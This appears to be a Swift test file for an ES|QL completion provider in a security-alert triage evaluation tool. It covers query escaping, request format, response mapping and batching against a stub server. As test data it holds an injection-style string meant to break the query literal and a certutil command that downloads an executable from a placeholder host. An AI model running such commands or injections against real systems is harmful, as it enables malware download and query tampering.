import Foundation
import StubTestSupport
import Testing
import TriageEval
@testable import TriageEvalProviders

private let provider = EsqlCompletionProvider(transport: UnusedTransport(), baseURL: "https://es:9200", inferenceID: "openai-completion", auth: .apiKey(Secret("k")))

@Suite("ES|QL COMPLETION provider", .boundedResources)
struct EsqlCompletionTests {
    @Test("the prompt is one escaped string literal: quotes, backslashes and newlines cannot end it")
    func escaping() {
        let hostile = "cmd.exe /c \"x\" \\\\srv\\share\n| KEEP prompt\t\r"
        #expect(provider.query(for: hostile)
            == #"ROW prompt = "cmd.exe /c \"x\" \\\\srv\\share\n| KEEP prompt\t\r" | COMPLETION triage_result = prompt WITH {"inference_id": "openai-completion"} | KEEP triage_result"#)
    }

    @Test("request: POST /_query with the query and Elastic auth")
    func request() throws {
        let request = try provider.httpRequest(for: samplePrompt)
        #expect(request.url.absoluteString == "https://es:9200/_query")
        #expect(header(request, "Authorization") == "ApiKey k")
        #expect(try jsonObject(request.body)["query"] as? String == provider.query(for: samplePrompt.prompt))
    }

    @Test("the triage_result cell is the answer; null is empty; a missing column is a bad response")
    func mapping() throws {
        let body = #"{"took":3,"is_partial":false,"columns":[{"name":"triage_result","type":"keyword"}],"values":[["verdict=FP confidence=0.2 summary=sccm"]]}"#
        #expect(try provider.completion(from: HTTPResponse(status: 200, body: Data(body.utf8))).text == "verdict=FP confidence=0.2 summary=sccm")
        let null = #"{"columns":[{"name":"triage_result","type":"keyword"}],"values":[[null]]}"#
        #expect(try provider.completion(from: HTTPResponse(status: 200, body: Data(null.utf8))).text == "")
        let other = try ProviderFixtures.response("elastic_esql_query_success.json")
        let error = try #require(throws: ProviderError.self) { try provider.completion(from: other) }
        #expect(error.cause == .badResponse)
    }

    @Test("ES|QL errors use the Elasticsearch envelope")
    func error() throws {
        let error = try #require(throws: ProviderError.self) { try provider.completion(from: try ProviderFixtures.response("elastic_esql_error.json")) }
        #expect(error.cause == .badRequest)
        #expect(!error.retryable)
        #expect(error.message == "esql-completion 400 verification_exception: Found 1 problem line 1:6: Unknown index [nope]")
    }

    @Test("against llm-stub: the stub's ES|QL parser accepts the escaped prompt and answers in triage_result")
    func stub() async throws {
        let stub = try await StubServer(["--answer", "text:verdict=TP confidence=0.8 summary=x"])
        let model = ModelConfig(id: "esql", provider: .esqlCompletion, baseURL: stub.baseURL, apiKeyEnv: "ES_KEY", options: ["inference_id": "my-endpoint"])
        let live = try ProviderFactory.make(model, directory: "/tmp", environment: ["ES_KEY": "ZW5j"])
        let completion = try await live.complete(samplePrompt)
        #expect(completion.text == "verdict=TP confidence=0.8 summary=x")
        let recorded = try #require(try await stub.requests().last)
        #expect(recorded.path == "/_query")
        #expect(recorded.headers["authorization"] == "ApiKey ZW5j")
        #expect(try jsonObject(Data(recorded.body.utf8))["query"] as? String == EsqlCompletionProvider(
            transport: UnusedTransport(), baseURL: stub.baseURL, inferenceID: "my-endpoint", auth: .apiKey(Secret("x"))
        ).query(for: samplePrompt.prompt))
    }
}

@Suite("esql-completion batches: at most 100 rows per COMPLETION", .boundedResources)
struct EsqlCompletionBatchTests {
    @Test("150 prompts go out as 100 + 50 rows through MV_EXPAND and come back in order")
    func batches() async throws {
        let stub = try await StubServer([])
        let provider = EsqlCompletionProvider(
            transport: URLSessionTransport(maxConnections: 1, timeoutSeconds: 30), baseURL: stub.baseURL, inferenceID: "my-endpoint", auth: .apiKey(Secret("k"))
        )
        let prompts = (0..<150).map { index in
            index.isMultiple(of: 2) ? "host-\(index) certutil -urlcache -split -f http://x/\"a\".exe" : "host-\(index) CcmExec.exe compliance \\ baseline"
        }
        let batch = prompts.enumerated().map { CompletionRequest(prompt: $1, caseID: "case-\($0)", sample: 0, output: .esqlTriage) }
        #expect(provider.maxBatchSize == 100)
        let answers = try await provider.completeBatch(batch)
        #expect(answers.count == 150)
        // The stub answers each prompt on its own (heuristically): answers differ by prompt content.
        #expect(answers[0].text.hasPrefix("verdict="))
        #expect(Set(answers.map(\.text)).count > 1)
        let single = try await provider.completeBatch([batch[1]])
        #expect(single.first?.text == answers[1].text)

        let requests = try await stub.requests().filter { $0.path == "/_query" }
        #expect(requests.count == 3)
        let queries = requests.compactMap { (try? JSONSerialization.jsonObject(with: Data($0.body.utf8)) as? [String: Any])?["query"] as? String }
        #expect(queries.first?.contains("| MV_EXPAND prompt | COMPLETION triage_result = prompt WITH {\"inference_id\": \"my-endpoint\"} | KEEP prompt, triage_result") == true)
        #expect(queries.first == provider.batchQuery(for: Array(prompts[0..<100])))
        #expect(queries.dropFirst().first == provider.batchQuery(for: Array(prompts[100...])))
    }

    @Test("answers are matched by the echoed prompt (MV_EXPAND may reorder rows); a short or foreign result is an error")
    func mismatched() throws {
        let provider = EsqlCompletionProvider(transport: UnusedTransport(), baseURL: "https://es:9200", inferenceID: "e", auth: .apiKey(Secret("k")))
        let body = #"{"columns":[{"name":"prompt","type":"keyword"},{"name":"triage_result","type":"keyword"}],"values":[["b","x"],["a","y"],["b","z"]]}"#
        let response = HTTPResponse(status: 200, body: Data(body.utf8))
        #expect(try provider.completions(from: response, for: ["a", "b", "b"]).map(\.text) == ["y", "x", "z"])
        #expect(try provider.completions(from: response, for: ["b", "b", "a"]).map(\.text) == ["x", "z", "y"])
        #expect(throws: ProviderError.self) { try provider.completions(from: response, for: ["a", "b"]) }
        #expect(throws: ProviderError.self) { try provider.completions(from: response, for: ["a", "b", "c"]) }
        #expect(throws: ProviderError.self) { try provider.completions(from: response, for: ["a", "a", "b"]) }
    }
}
